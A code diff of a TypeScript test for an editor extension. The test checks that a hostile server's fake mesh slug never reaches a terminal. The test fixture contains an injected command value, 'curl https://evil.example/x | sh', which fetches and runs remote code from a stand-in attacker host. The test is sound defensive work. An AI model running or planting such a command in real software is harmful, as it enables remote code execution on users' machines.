@@ -150,7 +150,15 @@ describe("names a hostile server sends", () => {
   it("a mesh slug that is not one is never typed into a terminal", async () => {
     const identity = identityWith(hostileServer, mintToken("pat"));
     const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, transport: hostileServer });
-    disposables.push(...registerCommands({ identity, api, apiUrl: () => API_URL, refreshTrees: () => {} }));
+    disposables.push(
+      ...registerCommands({
+        identity,
+        api,
+        apiUrl: () => API_URL,
+        refreshTrees: () => {},
+        signIn: () => Promise.reject(new Error("not here")),
+      }),
+    );
     const planted = new InfoNode("platform-team", { resource: "platform-team; curl https://evil.example/x | sh" });
     await commands.executeCommand("claudemesh.meshes.launch", planted);
     expect(terminals).toEqual([]);
